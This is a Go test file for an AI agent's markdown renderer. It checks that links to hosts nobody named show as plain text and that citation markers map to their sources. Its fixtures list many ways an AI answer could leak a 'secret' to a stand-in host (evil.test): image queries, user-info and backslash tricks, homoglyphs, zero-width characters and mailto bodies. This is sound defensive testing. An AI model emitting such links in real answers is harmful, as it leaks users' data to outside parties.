package markdown

import (
	"strings"
	"testing"

	"golang.org/x/net/html"

	"fusebox/agent"
	"fusebox/agent/sources"
)

// A link is one only where its host was named; each row tries to carry a secret to another.
func TestLinksToHostsThatNobodyNamedAreText(t *testing.T) {
	t.Parallel()
	for name, src := range map[string]string{
		"image with a query":   `![x](https://evil.test/p.png?d=secret)`,
		"link with data":       `[here](https://evil.test/?d=secret)`,
		"link in the path":     `[here](https://evil.test/secret)`,
		"autolink":             `<https://evil.test/?d=secret>`,
		"bare address":         `see https://evil.test/?d=secret`,
		"www":                  `see www.evil.test/secret`,
		"reference":            "[here][1]\n\n[1]: https://evil.test/?d=secret",
		"short reference":      "[here]\n\n[here]: https://evil.test/?d=secret",
		"image in a link":      `[![x](https://example.com/a.png)](https://evil.test/secret)`,
		"HTML":                 `<a href="https://evil.test/?d=secret">x</a> <img src="https://evil.test/secret">`,
		"subdomain":            `[x](https://secret.example.com.evil.test/)`,
		"subdomain of a named": `[x](https://secret.example.com/)`,
		"user part":            `[x](https://example.com@evil.test/)`,
		"user part, encoded":   `[x](https://example.com%40evil.test/)`,
		"backslash":            `[x](https://example.com\\@evil.test/)`,
		"backslashes":          `[x](https:\\\\evil.test/secret)`,
		"one slash":            `[x](https:/evil.test/secret)`,
		"no scheme":            `[x](//evil.test/secret)`,
		"entities":             `[x](https:&#47;&#47;evil.test/secret)`,
		"look-alike":           "[x](https://ex\u0430mple.com/secret)", // a Cyrillic a
		"punycode":             `[x](https://xn--exmple-4nf.com/secret)`,
		"zero width":           "[x](https://example\u200b.com/secret)",
		"full-width dot":       "[x](https://evil\u3002test/secret)",
		"mail":                 `[x](mailto:a@evil.test?body=secret)`,
		"mail autolink":        `<secret@evil.test>`,
		"two mailboxes":        `[x](mailto:a@example.com,b@evil.test)`,
		"other scheme":         `[x](ftp://example.com/secret) [y](tel:123)`,
		"forged source":        `[x](#m-1-s1)`,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			out := whole(src)
			eachNode(t, out, func(n *html.Node) {
				if n.Type == html.ElementNode && (n.Data == "a" && attr(n, "href") != "https://example.com/a.png" || n.Data == "img") {
					t.Errorf("a link in %s", out)
				}
			})
		})
	}
	for src, want := range map[string]string{
		`[example.com](https://other.example/?d=secret)`:   `title="https://other.example/?d=secret"`,
		`[x](https://example.com/a "a safe place")`:        `title="https://example.com/a"`,
		"[x](https://example.com/\u202emoc.elgoog/)":       `title="https://example.com/%E2%80%AEmoc.elgoog/"`,
		`![x](https://example.com/a.png)`:                  `title="https://example.com/a.png"`,
		"[a]\n\n[a]: https://example.com/b 'not this one'": `title="https://example.com/b"`,
	} {
		if out := whole(src); !strings.Contains(out, want) {
			t.Errorf("%s: want %s in %s", src, want, out)
		}
	}
	for _, src := range []string{`[x](https://example.com/a?b=1)`, `<https://EXAMPLE.com:8443/>`, `see https://example.com/a`, `![x](https://example.com/a.png)`, `[x](mailto:a@example.com)`} {
		if out := whole(src); !strings.Contains(out, "<a href=") {
			t.Errorf("%s became %s", src, out)
		}
	}
}

func attr(n *html.Node, key string) string {
	for _, a := range n.Attr {
		if a.Key == key {
			return a.Val
		}
	}
	return ""
}

func TestCitationsLeadToTheirSources(t *testing.T) {
	t.Parallel()
	from := Sources{
		Anchor: "m-1", Hosts: []string{"example.com"}, Unknown: []string{"9"},
		Citations: []agent.Citation{{N: 1, URL: "https://example.com/a", Name: "A"}, {N: 2, PassageID: "p01ARZ3NDEKTSV4RRFFQ69G5FAV", Name: "B"}},
	}
	known := func(n, key string) string {
		return `<a class="cite" href="#m-1-s` + n + `" rel="nofollow noreferrer">[` + key + `]</a>`
	}
	for src, want := range map[string]string{
		"Fact [1].":                                           "Fact " + known("1", "1") + ".",
		"事实[1][2]。":                                           "事实" + known("1", "1") + known("2", "2") + "。",
		"- **b** [p01ARZ3NDEKTSV4RRFFQ69G5FAV]":               known("2", "p01ARZ3NDEKTSV4RRFFQ69G5FAV"),
		"所以【1】。":                                              "所以" + known("1", "1") + "。",
		"【2†source】 and 【1†L3-L9】.":                           known("2", "2") + " and " + known("1", "1") + ".",
		"a\n【1, 2】\nb【1】c":                                    "a\n" + known("1", "1") + known("2", "2") + "\nb" + known("1", "1") + "c",
		"Both [1, 2] [1,2] [2; p01ARZ3NDEKTSV4RRFFQ69G5FAV].": known("1", "1") + known("2", "2") + " " + known("1", "1") + known("2", "2") + " " + known("2", "2") + known("2", "p01ARZ3NDEKTSV4RRFFQ69G5FAV"),
		"两处[1、2]":                                             "两处" + known("1", "1") + known("2", "2"),
		"Noted[^1][^2].":                                      "Noted" + known("1", "1") + known("2", "2") + ".",
		"[^1]: At the end":                                    known("1", "1") + ": At the end",
		"One of two [1, 9].":                                  known("1", "1") + `<span class="cite-unknown" title="Not among the sources">[9]</span>.`,
		"Neither [1, 7].":                                     known("1", "1") + "[7].",
		"*so 【1】*":                                            "<em>so " + known("1", "1") + "</em>",
		"`a【1】`":                                              "a【1】</code>",
		"【4】 and 【x】 and 【1":                                  "【4】 and 【x】 and 【1",
		"[[1]](https://example.com/a)":                        known("1", "1") + " (https://example.com/a)",
		"[so **[1]**](https://example.com/a)":                 "so <strong>" + known("1", "1") + "</strong> (https://example.com/a)",
		"![1](https://example.com/x)":                         `>1 `,
		"\\[1]":                                               "[1]",
		"Fact [9].":                                           `<span class="cite-unknown" title="Not among the sources">[9]</span>`,
		"`a[1]`":                                              "<code dir=\"ltr\">a[1]</code>",
		"```\na[1]\n```":                                      "a[1]\n",
		"    a[1]":                                            "a[1]\n",
		"[1](https://example.com/x)":                          known("1", "1") + `(<a href="https://example.com/x"`,
		"[1]\n\n[1]: https://example.com/x":                   known("1", "1"),
		"[4] and [x]":                                         "[4] and [x]",
	} {
		out := strings.Join(Render(english, src, from), "\n")
		if !strings.Contains(out, want) {
			t.Errorf("%q: want %s in %s", src, want, out)
		}
		if strings.Contains(src, "a[1]") && strings.Contains(out, "cite") {
			t.Errorf("a citation in code: %s", out)
		}
	}
	if out := whole("Fact [1]."); strings.Contains(out, "<a") {
		t.Errorf("a citation without sources: %s", out)
	}
}

// TestCitationsOfAnAnswerAreShown: what is listed below an answer, or counted as unknown, is what is
// marked in it, for all forms of marks and what only looks like one.
func TestCitationsOfAnAnswerAreShown(t *testing.T) {
	t.Parallel()
	var l sources.Ledger
	l.Read([]agent.Message{
		{ID: "a", Role: agent.FromAssistant, ToolCalls: []agent.CallRequest{{ID: "1", Name: sources.SearchTool}}},
		{ID: "b", Role: agent.FromTool, ToolCallID: "1", Content: `{"results":[{"url":"https://a.example/"},{"url":"https://b.example/"},{"url":"https://c.example/"}]}`},
	})
	for src, want := range map[string]string{
		"The pump is old [1]. 滤网每月清洗【2】。 Both [1, 3][2]. Never [9]. `a[0]`": "1 2 1 3 2 ?9",
		"【1†source】【3†L1-L2】 [2†a b] 【1:2†source】":                          "1 3 2",
		"[1, 9] [8,1]":                                                       "1 ?9 ?8 1",
		"```\na[1]\n```\n[2] ``b[3]`` c":                                     "2",
		"\\[1] [1a] [1234] [] [1,] [,1] 【】 [1 2] [1-3]":                      "",
		"[0] and [1](https://x.example/)[2](https://x.example/)":             "?0 1 2",
		"来源【1】 and [3]: /fake \"Official answer\"":                           "1 3",
		"[1\n] 【2\n】 【1†a\nb】 【1†*a*】 [1†" + strings.Repeat("a", 99) + "]":   "",
		strings.Repeat("[1, ", 12) + "[1, 2, 3, 1, 2, 3, 1, 2, 3, 1, 2] [3]": "3",
	} {
		m := agent.Message{Content: src}
		l.Sourced(&m, nil)
		var got []string
		for _, out := range Render(english, src, Sources{Anchor: "m-1", Citations: m.Citations, Unknown: m.UnknownCitations}) {
			eachNode(t, out, func(n *html.Node) {
				if class := attr(n, "class"); class == "cite" || class == "cite-unknown" {
					got = append(got, map[string]string{"cite-unknown": "?"}[class]+strings.Trim(n.FirstChild.Data, "[]"))
				}
			})
		}
		if strings.Join(got, " ") != want {
			t.Errorf("%q shows %v, want %s", src, got, want)
		}
		listed := map[string]bool{}
		for _, key := range got {
			listed[key] = true
		}
		if len(listed) != len(m.Citations)+len(m.UnknownCitations) {
			t.Errorf("%q shows %v, and lists %v and %v", src, got, m.Citations, m.UnknownCitations)
		}
	}
}

// What the loop finds in an answer and what the page shows as a citation agree.
func TestHostsOfAnAnswerAreFound(t *testing.T) {
	t.Parallel()
	m := agent.Message{Content: "[a](https://a.example/x) <https://b.example> www.c.example, me@d.example **https://e.example** [f](https://f.example:8443/)"}
	said := []agent.Message{{Role: agent.FromUser, Content: "look at a.example, b.example. And www.C.example! d.example e.example:443 https://f.example:8443"}}
	sources.SetHosts(&m, said)
	for _, link := range []string{"[a](https://a.example/x)", "<https://b.example>", "www.c.example", "me@d.example", "**https://e.example**", "[f](https://f.example:8443/)"} {
		if out := strings.Join(Render(english, link, Sources{Hosts: m.LinkHosts}), ""); !strings.Contains(out, "<a href=") {
			t.Errorf("%s became %s (hosts %v)", link, out, m.LinkHosts)
		}
	}
}
